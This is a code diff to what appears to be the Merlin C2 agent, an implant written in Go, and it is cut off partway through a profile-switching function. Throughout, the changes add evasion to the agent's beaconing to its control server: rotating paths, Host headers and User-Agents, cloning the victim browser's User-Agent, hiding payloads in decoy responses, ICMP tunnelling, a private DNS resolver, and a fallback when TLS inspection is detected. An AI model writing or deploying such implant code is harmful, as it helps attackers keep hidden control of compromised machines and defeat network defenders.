@@ -27,6 +27,7 @@ import (
 	"crypto/tls"
 	"encoding/gob"
 	"fmt"
+	"io/ioutil"
 	"math/rand"
 	"net"
 	"net/http"
@@ -50,8 +51,10 @@ import (
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/cli"
 	"github.com/Ne0nd0g/merlin-agent/clients"
+	"github.com/Ne0nd0g/merlin-agent/clients/icmp"
 	"github.com/Ne0nd0g/merlin-agent/clients/utls"
 	"github.com/Ne0nd0g/merlin-agent/crypto/opaque"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
 )
 
 // Client is a type of MerlinClient that is used to send and receive Merlin messages from the Merlin server
@@ -62,17 +65,24 @@ type Client struct {
 	URL        []string          // A slice of URLs to send messages to (e.g., https://127.0.0.1:443/test.php)
 	Host       string            // HTTP Host header value
 	Proxy      string            // Proxy string
+	Resolver   string            // Resolver is the DNS server used to resolve the C2 hostname, empty for the system resolver
 	JWT        string            // JSON Web Token for authorization
 	Headers    map[string]string // Additional HTTP headers to add to the request
-	secret     []byte            // The secret key used to encrypt communications
+	secret     *secure.Buffer    // The secret key used to encrypt communications, held in locked memory
 	UserAgent  string            // HTTP User-Agent value
 	PaddingMax int               // PaddingMax is the maximum size allowed for a randomly selected message padding length
 	JA3        string            // JA3 is a string that represent how the TLS client should be configured, if applicable
 	Parrot     string            // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
-	psk        string            // PSK is the Pre-Shared Key secret the agent will use to start authentication
+	psk        *secure.Buffer    // PSK is the Pre-Shared Key secret the agent will use to start authentication, held in locked memory
 	AgentID    uuid.UUID         // TODO can this be recovered through reflection since client is embedded into agent?
 	opaque     *opaque.User      // TODO Turn this into a generic authentication package interface
 	currentURL int               // the current URL the agent is communicating with
+	paths      *clients.Rotation // paths is a weighted list of URI paths, one is randomly selected for each request
+	hosts      *clients.Rotation // hosts is a weighted list of HTTP Host header values, one is randomly selected for each request
+	agents     *clients.Rotation // agents is a weighted list of User-Agent strings, one is randomly selected for each request
+	decoy      *clients.Decoy    // decoy extracts the payload from a benign looking response body, nil if the body is the payload
+	reauth     bool              // reauth is true while the agent is re-authenticating after the server rejected its JWT
+	fallback   string            // fallback is the protocol and URL, separated by a comma, switched to when TLS interception is detected
 }
 
 // Config is a structure that is used to pass in all necessary information to instantiate a new Client
@@ -83,7 +93,17 @@ type Config struct {
 	Headers     string    // Headers is a new-line separated string of additional HTTP headers to add to client requests
 	URL         []string  // URL is the protocol, domain, and page that the agent will communicate with (e.g., https://google.com/test.aspx)
 	Proxy       string    // Proxy is the URL of the proxy that all traffic needs to go through, if applicable
+	Resolver    string    // Resolver is the DNS server or DNS over HTTPS URL used to resolve the C2 hostname instead of the system resolver
+	KeepAlive   string    // KeepAlive is how often a persistent HTTP/2 or HTTP/3 connection is pinged to keep it open (e.g., 30s)
+	Idle        string    // Idle is how long a persistent connection can go unused before it is closed, 0 keeps it open
+	URIs        string    // URIs is a comma separated list of URI paths, with an optional |weight, randomly used for each request
+	Hosts       string    // Hosts is a comma separated list of HTTP Host headers, with an optional |weight, randomly used for each request
+	UserAgents  string    // UserAgents is a new-line separated list of User-Agent strings, with an optional |weight, randomly used for each request
+	Response    string    // Response is the profile describing where the payload is embedded in the response body (e.g., html, json:data.blob, image)
 	UserAgent   string    // UserAgent is the HTTP User-Agent header string that Agent will use while sending traffic
+	Fallback    string    // Fallback is the protocol and URL, separated by a comma (e.g., http3,https://10.0.0.1/), used when TLS interception is detected
+	Pins        string    // Pins is a comma separated list of SHA256 certificate or sha256/ public key hashes the C2 server must match
+	CloneUA     bool      // CloneUA replaces the UserAgent with the User-Agent of the host's default web browser, if it can be determined
 	PSK         string    // PSK is the Pre-Shared Key secret the agent will use to start authentication
 	JA3         string    // JA3 is a string that represent how the TLS client should be configured, if applicable
 	Parrot      string    // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
@@ -94,8 +114,10 @@ type Config struct {
 
 // New instantiates and returns a Client that is constructed from the passed in Config
 func New(config Config) (*Client, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.http.New()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Config: %+v", config))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.http.New()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Config: %+v", config))
+	}
 	client := Client{
 		AgentID:   config.AgentID,
 		URL:       config.URL,
@@ -103,19 +125,31 @@ func New(config Config) (*Client, error) {
 		Host:      config.Host,
 		Protocol:  config.Protocol,
 		Proxy:     config.Proxy,
+		Resolver:  config.Resolver,
+		fallback:  config.Fallback,
 		JA3:       config.JA3,
 		Parrot:    config.Parrot,
-		psk:       config.PSK,
+		psk:       secure.NewBuffer([]byte(config.PSK)),
 	}
 
 	// Set secret for JWT and JWE encryption key from PSK
-	k := sha256.Sum256([]byte(client.psk))
-	client.secret = k[:]
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk))
-	cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret))
+	k := sha256.Sum256(client.psk.Bytes())
+	client.setSecret(k[:])
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("new client PSK: %s", client.psk.Bytes()))
+		cli.Message(cli.DEBUG, fmt.Sprintf("new client Secret: %x", client.secret.Bytes()))
+	}
 
-	//Convert Padding from string to an integer
+	// Literal IPv6 addresses must be enclosed in brackets
 	var err error
+	for i, u := range client.URL {
+		client.URL[i], err = clients.ParseURL(u)
+		if err != nil {
+			return &client, err
+		}
+	}
+
+	//Convert Padding from string to an integer
 	if config.Padding != "" {
 		client.PaddingMax, err = strconv.Atoi(config.Padding)
 		if err != nil {
@@ -125,51 +159,93 @@ func New(config Config) (*Client, error) {
 		client.PaddingMax = 0
 	}
 
-	// Parse additional HTTP Headers
-	if config.Headers != "" {
-		client.Headers = make(map[string]string)
-		for _, header := range strings.Split(config.Headers, "\\n") {
-			h := strings.Split(header, ":")
-			// Remove leading or trailing spaces
-			headerKey := strings.TrimSuffix(strings.TrimPrefix(h[0], " "), " ")
-			headerValue := strings.TrimSuffix(strings.TrimPrefix(h[1], " "), " ")
-			cli.Message(
-				cli.DEBUG,
-				fmt.Sprintf("HTTP Header (%d): %s, Value (%d): %s\n",
-					len(headerKey),
-					headerKey,
-					len(headerValue),
-					headerValue,
-				),
-			)
-			client.Headers[headerKey] = headerValue
+	// Parse the per request rotation lists
+	client.paths, err = clients.NewRotation(strings.Split(config.URIs, ","))
+	if err != nil {
+		return &client, fmt.Errorf("there was an error parsing the URI rotation list:\r\n%s", err)
+	}
+	client.hosts, err = clients.NewRotation(strings.Split(config.Hosts, ","))
+	if err != nil {
+		return &client, fmt.Errorf("there was an error parsing the Host header rotation list:\r\n%s", err)
+	}
+	// Use the same User-Agent as the host's default web browser
+	if config.CloneUA {
+		if ua, errUA := clients.HostUserAgent(); errUA != nil {
+			if cli.Enabled {
+				cli.Message(cli.WARN, fmt.Sprintf("there was an error cloning the host's User-Agent, using the configured User-Agent: %s", errUA))
+			}
+		} else {
+			client.UserAgent = ua
 		}
 	}
 
+	client.agents, err = clients.NewRotation(strings.Split(config.UserAgents, "\\n"))
+	if err != nil {
+		return &client, fmt.Errorf("there was an error parsing the User-Agent rotation list:\r\n%s", err)
+	}
+
+	// Parse the response profile used to extract the payload from the response body
+	client.decoy, err = clients.NewDecoy(config.Response)
+	if err != nil {
+		return &client, fmt.Errorf("there was an error parsing the response profile:\r\n%s", err)
+	}
+
+	// Parse additional HTTP Headers
+	client.Headers = parseHeaders(config.Headers)
+
+	// Resolve the C2 hostname with a specific DNS server
+	err = clients.SetResolver(client.Resolver)
+	if err != nil {
+		return &client, err
+	}
+
+	// Only accept the C2 server's pinned certificates or public keys
+	err = clients.SetPins(config.Pins)
+	if err != nil {
+		return &client, err
+	}
+
+	// Keep the connection open between check ins instead of a new TLS handshake each time
+	err = clients.SetKeepAlive(config.KeepAlive, config.Idle)
+	if err != nil {
+		return &client, err
+	}
+
 	// Get the HTTP client
 	client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot)
 	if err != nil {
 		return &client, err
 	}
 
-	cli.Message(cli.INFO, "Client information:")
-	cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", client.Protocol))
-	cli.Message(cli.INFO, fmt.Sprintf("\tURL: %v", client.URL))
-	cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent: %s", client.UserAgent))
-	cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Host Header: %s", client.Host))
-	cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Headers: %s", client.Headers))
-	cli.Message(cli.INFO, fmt.Sprintf("\tProxy: %s", client.Proxy))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding Max: %d", client.PaddingMax))
-	cli.Message(cli.INFO, fmt.Sprintf("\tJA3 String: %s", client.JA3))
-	cli.Message(cli.INFO, fmt.Sprintf("\tParrot String: %s", client.Parrot))
+	if cli.Enabled {
+		cli.Message(cli.INFO, "Client information:")
+		cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", client.Protocol))
+		cli.Message(cli.INFO, fmt.Sprintf("\tURL: %v", client.URL))
+		cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent: %s", client.UserAgent))
+		cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Host Header: %s", client.Host))
+		cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Headers: %s", client.Headers))
+		cli.Message(cli.INFO, fmt.Sprintf("\tURI Rotation: %s", client.paths))
+		cli.Message(cli.INFO, fmt.Sprintf("\tHost Rotation: %s", client.hosts))
+		cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent Rotation: %s", client.agents))
+		cli.Message(cli.INFO, fmt.Sprintf("\tResponse Profile: %s", client.decoy))
+		cli.Message(cli.INFO, fmt.Sprintf("\tProxy: %s", client.Proxy))
+		cli.Message(cli.INFO, fmt.Sprintf("\tDNS Resolver: %s", client.Resolver))
+		keepAlive, idle := clients.KeepAlive()
+		cli.Message(cli.INFO, fmt.Sprintf("\tKeepAlive: %s, Idle Timeout: %s", keepAlive, idle))
+		cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding Max: %d", client.PaddingMax))
+		cli.Message(cli.INFO, fmt.Sprintf("\tJA3 String: %s", client.JA3))
+		cli.Message(cli.INFO, fmt.Sprintf("\tParrot String: %s", client.Parrot))
+	}
 
 	return &client, nil
 }
 
 // getClient returns an HTTP client for the passed in protocol (i.e. h2 or http3)
 func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.http.getClient()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Protocol: %s, Proxy: %s, JA3 String: %s, Parrot: %s", protocol, proxyURL, ja3, parrot))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.http.getClient()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Protocol: %s, Proxy: %s, JA3 String: %s, Parrot: %s", protocol, proxyURL, ja3, parrot))
+	}
 	/* #nosec G402 */
 	// G402: TLS InsecureSkipVerify set true. (Confidence: HIGH, Severity: HIGH) Allowed for testing
 	// Setup TLS configuration
@@ -180,20 +256,27 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 			tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
 			tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
 		},
+		// Abort the handshake if the server's certificate does not match a configured pin
+		VerifyPeerCertificate: clients.VerifyPins,
 	}
 
 	// Proxy
 	var proxy func(*http.Request) (*url.URL, error)
-	if proxyURL != "" {
+	switch strings.ToLower(proxyURL) {
+	case "":
+		// Detect the proxy from the HTTP_PROXY, HTTPS_PROXY, and NO_PROXY environment variables or the host's configuration
+		proxy = clients.Proxy
+	case "direct":
+		// Connect directly even if the host is configured to use a proxy
+	default:
 		rawURL, errProxy := url.Parse(proxyURL)
 		if errProxy != nil {
 			return nil, fmt.Errorf("there was an error parsing the proxy string:\r\n%s", errProxy.Error())
 		}
-		cli.Message(cli.DEBUG, fmt.Sprintf("Parsed Proxy URL: %+v", rawURL))
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("Parsed Proxy URL: %+v", rawURL))
+		}
 		proxy = http.ProxyURL(rawURL)
-	} else {
-		// Check for, and use, HTTP_PROXY, HTTPS_PROXY and NO_PROXY environment variables
-		proxy = http.ProxyFromEnvironment
 	}
 
 	// JA3
@@ -204,11 +287,9 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 		}
 
 		// Set proxy
-		if proxyURL != "" {
-			transport.Proxy(proxy)
-		}
+		transport.Proxy(proxy)
 
-		return &http.Client{Transport: transport}, nil
+		return &http.Client{Transport: clients.CountTraffic(transport)}, nil
 	}
 
 	// Parrot - If a JA3 string was set, it will be used and the parroting will be ignored
@@ -220,13 +301,14 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 		}
 
 		// Set proxy
-		if proxyURL != "" {
-			transport.Proxy(proxy)
-		}
+		transport.Proxy(proxy)
 
-		return &http.Client{Transport: transport}, nil
+		return &http.Client{Transport: clients.CountTraffic(transport)}, nil
 	}
 
+	// Persistent connections are pinged to keep them open between check ins
+	keepAlive, _ := clients.KeepAlive()
+
 	var transport http.RoundTripper
 	switch strings.ToLower(protocol) {
 	case "http3":
@@ -238,23 +320,30 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 				MaxIdleTimeout: time.Second * 30,
 				// KeepAlivePeriod will send an HTTP/2 PING frame to keep the connection alive
 				// If this isn't used, and the agent's sleep is greater than the MaxIdleTimeout, then the connection will time out
-				KeepAlivePeriod: time.Second * 30,
+				KeepAlivePeriod: keepAlive,
 				// HandshakeIdleTimeout is how long the client will wait to hear back while setting up the initial crypto handshake w/ server
 				HandshakeIdleTimeout: time.Second * 30,
 			},
 			TLSClientConfig: TLSConfig,
+			Dial:            clients.DialQUIC,
 		}
 	case "h2":
 		TLSConfig.NextProtos = []string{"h2"} // https://www.iana.org/assignments/tls-extensiontype-values/tls-extensiontype-values.xhtml#alpn-protocol-ids
 		transport = &http2.Transport{
 			TLSClientConfig: TLSConfig,
+			DialTLS: func(network, addr string, cfg *tls.Config) (net.Conn, error) {
+				return tls.DialWithDialer(clients.Dialer(), network, addr, cfg)
+			},
+			// ReadIdleTimeout sends an HTTP/2 PING frame when nothing has been received for the keepalive period
+			ReadIdleTimeout: keepAlive,
 		}
 	case "h2c":
 		transport = &http2.Transport{
 			AllowHTTP: true,
 			DialTLS: func(network, addr string, cfg *tls.Config) (net.Conn, error) {
-				return net.Dial(network, addr)
+				return clients.Dialer().Dial(network, addr)
 			},
+			ReadIdleTimeout: keepAlive,
 		}
 	case "https":
 		TLSConfig.NextProtos = []string{"http/1.1"} // https://www.iana.org/assignments/tls-extensiontype-values/tls-extensiontype-values.xhtml#alpn-protocol-ids
@@ -263,22 +352,33 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 			MaxIdleConns:    10,
 			Proxy:           proxy,
 			IdleConnTimeout: 1 * time.Nanosecond,
+			DialContext:     clients.Dialer().DialContext,
 		}
 	case "http":
 		transport = &http.Transport{
 			MaxIdleConns:    10,
 			Proxy:           proxy,
 			IdleConnTimeout: 1 * time.Nanosecond,
+			DialContext:     clients.Dialer().DialContext,
+		}
+	case "icmp":
+		// HTTP requests are tunneled through ICMP echo requests to a relay in front of the HTTP listener
+		var err error
+		transport, err = icmp.NewTransport()
+		if err != nil {
+			return nil, err
 		}
 	default:
 		return nil, fmt.Errorf("%s is not a valid client protocol", protocol)
 	}
-	return &http.Client{Transport: transport}, nil
+	return &http.Client{Transport: clients.CountTraffic(transport)}, nil
 }
 
 // getJWT is used to generate unauthenticated JWTs before the Agent successfully authenticates to the server
 func (client *Client) getJWT() (string, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.http.getJWT()...")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.http.getJWT()...")
+	}
 	// Agent generated JWT will always use the PSK
 	// Server later signs and returns JWTs
 
@@ -286,7 +386,7 @@ func (client *Client) getJWT() (string, error) {
 	encrypter, encErr := jose.NewEncrypter(jose.A256GCM,
 		jose.Recipient{
 			Algorithm: jose.DIRECT, // Doesn't create a per message key
-			Key:       client.secret},
+			Key:       client.secret.Bytes()},
 		(&jose.EncrypterOptions{}).WithType("JWT").WithContentType("JWT"))
 	if encErr != nil {
 		return "", fmt.Errorf("there was an error creating the JWT encryptor:\r\n%s", encErr.Error())
@@ -295,7 +395,7 @@ func (client *Client) getJWT() (string, error) {
 	// Create signer
 	signer, errSigner := jose.NewSigner(jose.SigningKey{
 		Algorithm: jose.HS256,
-		Key:       client.secret},
+		Key:       client.secret.Bytes()},
 		(&jose.SignerOptions{}).WithType("JWT"))
 	if errSigner != nil {
 		return "", fmt.Errorf("there was an error creating the JWT signer:\r\n%s", errSigner.Error())
@@ -303,8 +403,8 @@ func (client *Client) getJWT() (string, error) {
 
 	// Build JWT claims
 	cl := jwt.Claims{
-		Expiry:   jwt.NewNumericDate(time.Now().UTC().Add(time.Second * 10)),
-		IssuedAt: jwt.NewNumericDate(time.Now().UTC()),
+		Expiry:   jwt.NewNumericDate(clients.Now().UTC().Add(time.Second * 10)),
+		IssuedAt: jwt.NewNumericDate(clients.Now().UTC()),
 		ID:       client.AgentID.String(),
 	}
 
@@ -326,8 +426,10 @@ func (client *Client) getJWT() (string, error) {
 // The function also decodes and decrypts response messages and return a Merlin message structure.
 // This is where the client's logic is for communicating with the server.
 func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err error) {
-	cli.Message(cli.DEBUG, "Entering into agent.sendMessage()")
-	cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s", messages.String(m.Type), client.URL[client.currentURL]))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into agent.sendMessage()")
+		cli.Message(cli.NOTE, fmt.Sprintf("Sending %s message to %s", messages.String(m.Type), client.URL[client.currentURL]))
+	}
 
 	// Set the message padding
 	if client.PaddingMax > 0 {
@@ -335,8 +437,6 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		m.Padding = core.RandStringBytesMaskImprSrc(rand.Intn(client.PaddingMax))
 	}
 
-	var returnMessage messages.Base
-
 	// Convert messages.Base to gob
 	messageBytes := new(bytes.Buffer)
 	errGobEncode := gob.NewEncoder(messageBytes).Encode(m)
@@ -346,7 +446,9 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	}
 
 	// Get JWE
-	jweString, errJWE := core.GetJWESymetric(messageBytes.Bytes(), client.secret)
+	jweString, errJWE := core.GetJWESymetric(messageBytes.Bytes(), client.secret.Bytes())
+	// The plaintext message is no longer needed after it is encrypted
+	secure.Zero(messageBytes.Bytes())
 	if errJWE != nil {
 		err = fmt.Errorf("there was an error getting a symetric JWE while trying to send a message: %s", errJWE)
 		return
@@ -360,17 +462,32 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		return
 	}
 
-	req, reqErr := http.NewRequest("POST", client.URL[client.currentURL], jweBytes)
+	// Select a random URI path, if any, so every request doesn't go to the same page
+	reqURL := client.URL[client.currentURL]
+	if client.paths != nil {
+		reqURL, err = clients.WithPath(reqURL, client.paths.Next())
+		if err != nil {
+			return
+		}
+	}
+
+	req, reqErr := http.NewRequest("POST", reqURL, jweBytes)
 	if reqErr != nil {
 		err = fmt.Errorf("there was an error building the HTTP request:\r\n%s", reqErr.Error())
 		return
 	}
 
 	if req != nil {
-		req.Header.Set("User-Agent", client.UserAgent)
+		userAgent := client.UserAgent
+		if client.agents != nil {
+			userAgent = client.agents.Next()
+		}
+		req.Header.Set("User-Agent", userAgent)
 		req.Header.Set("Content-Type", "application/octet-stream; charset=utf-8")
 		req.Header.Set("Authorization", fmt.Sprintf("Bearer %s", client.JWT))
-		if client.Host != "" {
+		if client.hosts != nil {
+			req.Host = client.hosts.Next()
+		} else if client.Host != "" {
 			req.Host = client.Host
 		}
 	}
@@ -386,8 +503,10 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	}
 
 	// Send the request
-	cli.Message(cli.DEBUG, fmt.Sprintf("Sending POST request size: %d to: %s", req.ContentLength, client.URL))
-	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request:\r\n%+v", req))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Sending POST request size: %d to: %s", req.ContentLength, client.URL))
+		cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request:\r\n%+v", req))
+	}
 	resp, err := client.Client.Do(req)
 
 	if err != nil {
@@ -416,69 +535,103 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 				e = "Building new HTTP/3 client because QUIC MaxIdleTimeout reached"
 			}
 
-			cli.Message(cli.DEBUG, fmt.Sprintf("HTTP/3 error: %s", err.Error()))
+			if cli.Enabled {
+				cli.Message(cli.DEBUG, fmt.Sprintf("HTTP/3 error: %s", err.Error()))
+			}
 
 			if n {
-				cli.Message(cli.NOTE, e)
+				if cli.Enabled {
+					cli.Message(cli.NOTE, e)
+				}
 				var errClient error
 				client.Client, errClient = getClient(client.Protocol, "", "", "")
 				if errClient != nil {
-					cli.Message(cli.WARN, fmt.Sprintf("there was an error getting a new HTTP/3 client: %s", errClient.Error()))
+					if cli.Enabled {
+						cli.Message(cli.WARN, fmt.Sprintf("there was an error getting a new HTTP/3 client: %s", errClient.Error()))
+					}
 				}
 			}
 		}
 		err = fmt.Errorf("there was an error with the http client while performing a POST:\r\n%s", err.Error())
 		return
 	}
-	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Response:\r\n%+v", resp))
+	clients.ResetIdle(client.Client)
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Response:\r\n%+v", resp))
+	}
 
 	switch resp.StatusCode {
 	case 200:
 		break
 	case 401:
-		cli.Message(cli.NOTE, "Server returned a 401, re-registering and re-authenticating this orphaned agent")
-		returnMessage, err = client.Auth("opaque", true)
-		returnMessages = append(returnMessages, returnMessage)
+		// Only one re-authentication is attempted, a 401 while re-authenticating is an error
+		if client.reauth {
+			err = fmt.Errorf("the server rejected the agent's JWT while re-authenticating")
+			return
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, "Server returned a 401, re-authenticating the agent and resending the message")
+		}
+		returnMessages, err = client.reauthenticate(m)
 		return
 	default:
 		err = fmt.Errorf("there was an error communicating with the server:\r\n%d", resp.StatusCode)
 		return
 	}
 
-	contentType := resp.Header.Get("Content-Type")
-	if contentType == "" {
-		err = fmt.Errorf("the response did not contain a Content-Type header")
+	// Check to make sure message response contained data
+	if resp.ContentLength == 0 {
+		err = fmt.Errorf("the response message did not contain any data")
 		return
 	}
 
-	// Check to make sure the response contains the application/octet-stream Content-Type header
-	isOctet := false
-	for _, v := range strings.Split(contentType, ",") {
-		if strings.ToLower(v) == "application/octet-stream" {
-			isOctet = true
+	// The payload is embedded somewhere in a benign looking response body
+	if client.decoy != nil {
+		body, errRead := ioutil.ReadAll(resp.Body)
+		if errRead != nil {
+			err = fmt.Errorf("there was an error reading the response body:\r\n%s", errRead)
+			return
+		}
+		payload, errExtract := client.decoy.Extract(body)
+		if errExtract != nil {
+			err = errExtract
+			return
+		}
+		errD := gob.NewDecoder(bytes.NewReader(payload)).Decode(&jweString)
+		if errD != nil {
+			err = fmt.Errorf("there was an error decoding the gob message:\r\n%s", errD.Error())
+			return
+		}
+	} else {
+		contentType := resp.Header.Get("Content-Type")
+		if contentType == "" {
+			err = fmt.Errorf("the response did not contain a Content-Type header")
+			return
 		}
-	}
 
-	if !isOctet {
-		err = fmt.Errorf("the response message did not contain the application/octet-stream Content-Type header")
-		return
-	}
+		// Check to make sure the response contains the application/octet-stream Content-Type header
+		isOctet := false
+		for _, v := range strings.Split(contentType, ",") {
+			if strings.ToLower(v) == "application/octet-stream" {
+				isOctet = true
+			}
+		}
 
-	// Check to make sure message response contained data
-	if resp.ContentLength == 0 {
-		err = fmt.Errorf("the response message did not contain any data")
-		return
-	}
+		if !isOctet {
+			err = fmt.Errorf("the response message did not contain the application/octet-stream Content-Type header")
+			return
+		}
 
-	// Decode GOB from server response into JWE
-	errD := gob.NewDecoder(resp.Body).Decode(&jweString)
-	if errD != nil {
-		err = fmt.Errorf("there was an error decoding the gob message:\r\n%s", errD.Error())
-		return
+		// Decode GOB from server response into JWE
+		errD := gob.NewDecoder(resp.Body).Decode(&jweString)
+		if errD != nil {
+			err = fmt.Errorf("there was an error decoding the gob message:\r\n%s", errD.Error())
+			return
+		}
 	}
 
 	// Decrypt JWE to messages.Base
-	respMessage, errDecrypt := core.DecryptJWE(jweString, client.secret)
+	respMessage, errDecrypt := core.DecryptJWE(jweString, client.secret.Bytes())
 	if errDecrypt != nil {
 		err = fmt.Errorf("there was an error decrypting the returned JWE after sending a message: %s", errDecrypt)
 		return
@@ -495,17 +648,23 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 
 // Set is a generic function that is used to modify a Client's field values
 func (client *Client) Set(key string, value string) error {
-	cli.Message(cli.DEBUG, "Entering into clients.http.Set()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s, Value: %s", key, value))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.http.Set()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s, Value: %s", key, value))
+	}
 	var err error
 	switch strings.ToLower(key) {
 	case "ja3":
 		ja3String := strings.Trim(value, "\"'")
 		client.Client, err = getClient(client.Protocol, client.Proxy, ja3String, client.Parrot)
 		if ja3String != "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Set agent JA3 signature to:%s", ja3String))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Set agent JA3 signature to:%s", ja3String))
+			}
 		} else if ja3String == "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			}
 		}
 		client.JA3 = ja3String
 	case "jwt":
@@ -515,25 +674,167 @@ func (client *Client) Set(key string, value string) error {
 		parrot := strings.Trim(value, "\"'")
 		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, parrot)
 		if parrot != "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Set agent HTTP transport parrot to:%s", parrot))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Set agent HTTP transport parrot to:%s", parrot))
+			}
 		} else if parrot == "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			}
 		}
 		client.Parrot = parrot
+	case "proxy":
+		// An empty proxy detects the host's proxy configuration and direct ignores it
+		proxy := strings.Trim(value, "\"'")
+		var c *http.Client
+		if c, err = getClient(client.Protocol, proxy, client.JA3, client.Parrot); err == nil {
+			client.Client, client.Proxy = c, proxy
+			clients.ResetProxy()
+		}
+	case "fallback":
+		// Switch to the fallback protocol and URL, it is only used once
+		if client.fallback == "" {
+			return fmt.Errorf("a fallback transport is not configured")
+		}
+		protocol, u, ok := strings.Cut(client.fallback, ",")
+		if !ok {
+			return fmt.Errorf("the fallback transport %s must be a protocol and URL separated by a comma", client.fallback)
+		}
+		if u, err = clients.ParseURL(strings.TrimSpace(u)); err != nil {
+			return err
+		}
+		var c *http.Client
+		if c, err = getClient(strings.TrimSpace(protocol), client.Proxy, client.JA3, client.Parrot); err != nil {
+			return err
+		}
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("Switching to the fallback %s transport at %s", protocol, u))
+		}
+		client.Client, client.Protocol, client.URL, client.currentURL = c, strings.TrimSpace(protocol), []string{u}, 0
+		client.fallback = ""
 	case "paddingmax":
 		client.PaddingMax, err = strconv.Atoi(value)
+	case "profile":
+		err = client.setProfile(value)
+	case "psk":
+		// The new PSK is used the next time the agent registers
+		client.psk.Destroy()
+		client.psk = secure.NewBuffer([]byte(value))
 	case "secret":
-		client.secret = []byte(value)
+		client.setSecret([]byte(value))
 	default:
 		err = fmt.Errorf("unknown http client setting: %s", key)
 	}
 	return err
 }
 
+// setProfile switches the client to a communication profile. The profile is a new line separated list of setting=value
+// pairs named after the agent's command line flags (e.g., url, proto, headers). Every setting is validated before any
+// are applied so a bad profile leaves the client unchanged, and the client stays authenticated with the server
+func (client *Client) setProfile(profile string) error {
+	urls, protocol, host, headers := client.URL, client.Protocol, client.Host, client.Headers
+	userAgent, proxy, ja3, parrot, paddingMax := client.UserAgent, client.Proxy, client.JA3, client.Parrot, client.PaddingMax
+	paths, hosts, agents, decoy := client.paths, client.hosts, client.agents, client.decoy
+
+	var err error
+	for _, line := range strings.Split(profile, "\n") {
+		if line == "" {
+			continue
+		}
+		key, value, _ := strings.Cut(line, "=")
+		switch strings.ToLower(key) {
+		case "url":
+			urls = nil
+			for _, u := range strings.Split(strings.ReplaceAll(value, " ", ""), ",") {
+				if u, err = clients.ParseURL(u); err != nil {
+					return err
+				}
+				urls = append(urls, u)
+			}
+		case "proto":
+			protocol = value
+		case "host":
+			host = value
+		case "headers":
+			headers = parseHeaders(value)
+		case "uris":
+			if paths, err = clients.NewRotation(strings.Split(value, ",")); err != nil {
